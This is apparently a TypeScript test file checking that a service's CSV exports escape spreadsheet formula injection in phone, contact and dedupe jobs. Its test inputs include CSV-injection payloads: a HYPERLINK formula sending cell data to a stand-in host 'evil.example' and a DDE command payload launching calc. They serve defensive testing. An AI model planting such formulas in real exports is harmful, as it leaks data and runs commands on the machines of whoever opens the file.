import test from 'ava';
import { parse } from 'csv-parse/sync';

import { dedupeExport } from '../src/console/export.js';
import { addPack } from '../src/state/ledger.js';
import { csvText } from '../src/http/csv.js';
import { call, startServer, waitFor, type TestServer } from './helpers/server.js';

/**
 * CSV injection (issue 33, finding 5): the values the review sent through every export come back as text a
 * spreadsheet does not run. A cell "starts a formula" when it begins with = + - @ TAB or CR, unless it is an
 * E.164 number (a `+` and digits only: nothing a spreadsheet can call; docs/jobs.md).
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Via Roma 1")', "=cmd|' /C calc'!A0", '@SUM(A1)', '+2', '-2+3', '\t=1+1', '\r=1+1'];
const E164 = /^\+[1-9]\d{6,14}$/;
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !E164.test(cell);

let server: TestServer;
test.before(async () => {
  server = await startServer({ rateLimits: { single: 10_000, batch: 10_000, autocomplete: 10_000 } });
  await addPack(server.state, 'test', 'dedupe', 1_000);
});
test.after.always(async () => server?.close());

function cells(csv: string): string[][] {
  return parse(csv, { relax_column_count: true }) as string[][];
}

function assertNoFormula(t: { deepEqual: (a: unknown, b: unknown, m?: string) => void }, rows: string[][], what: string): void {
  t.deepEqual(rows.flat().filter(startsFormula), [], `${what}: cells that start a formula`);
}

async function jobCsv(path: string, items: unknown[]): Promise<string[][]> {
  const queued = await call(server, 'POST', path, { async: true, items });
  if (queued.status !== 200) throw new Error(`${path}: ${queued.status} ${JSON.stringify(queued.body)}`);
  await waitFor(() => call(server, 'GET', `${path}?job=${queued.body.job}`), (r) => r.body.state === 'completed');
  const csv = await call(server, 'GET', `${path}?job=${queued.body.job}&format=csv`);
  return cells(String(csv.body));
}

test('a phone job’s CSV carries no cell that starts a formula; the hostile text is there, as text; E.164 stays as it is', async (t) => {
  const items = [...HOSTILE.map((h, i) => ({ id: h, phone: i % 2 ? h : '02 4851 2345' })), { id: 'plain', phone: '+39 06 6982 1234' }];
  const rows = await jobCsv('/api/v1/phone', items);
  assertNoFormula(t, rows, 'phone job');
  const ids = rows.slice(1).map((r) => r[0]);
  t.deepEqual(ids, [...HOSTILE.map((h) => `'${h}`), 'plain']);
  const e164 = rows[0]?.indexOf('e164') ?? -1;
  t.true(e164 > 0);
  t.is(rows.at(-1)?.[e164], '+390669821234');
});

test('a contact job’s CSV: hostile addresses, cities and ids come back as text', async (t) => {
  const items = HOSTILE.map((h) => ({ id: h, address: h, city: '=2+3', country: 'IT' }));
  const rows = await jobCsv('/api/v1/contact', items);
  assertNoFormula(t, rows, 'contact job');
  t.deepEqual(rows.slice(1).map((r) => r[0]), HOSTILE.map((h) => `'${h}`));
});

test('numbers stay numbers (a negative longitude), the same text gets its quote', (t) => {
  t.deepEqual(cells(csvText([['lon', 'text'], [-0.1278, '-0.1278']])), [['lon', 'text'], ['-0.1278', "'-0.1278"]]);
});

test('dedupe: the API CSV and the console’s deduplicated list carry no formula', async (t) => {
  const records = [
    { id: '=1+1', first_name: 'Giuseppe', last_name: 'Verdi', address: 'Via San Vitale 12', postcode: '40125', city: 'Bologna', email: 'giuseppe.verdi@example.it' },
    { id: '@SUM(A1)', first_name: 'Beppe', last_name: 'Verdi', address: 'V. S. Vitale, 12', city: 'bologna' },
    { id: "=cmd|' /C calc'!A0", first_name: 'Anna', last_name: '=HYPERLINK("http://evil.example")', address: '+Via San Vitale 12', city: '-Bologna', phone: '+390512345678' },
  ];
  const r = await call(server, 'POST', '/api/v1/dedupe', { records });
  t.is(r.status, 200);
  t.is(r.body.groups.length, 1);
  const api = cells(String((await call(server, 'GET', `/api/v1/dedupe?job=${r.body.job}&format=csv`)).body));
  assertNoFormula(t, api, 'dedupe API CSV');
  t.deepEqual(api.slice(1).map((row) => row[0]).sort(), records.map((rec) => `'${rec.id}`).sort());
  const exported = cells(dedupeExport(records, r.body.groups, {}));
  assertNoFormula(t, exported, 'console export');
  const anna = exported.find((row) => row[0] === `'${records[2]?.id}`);
  t.truthy(anna);
  t.true(anna?.includes(`'${records[2]?.last_name}`));
  t.true(anna?.includes('+390512345678'));
});
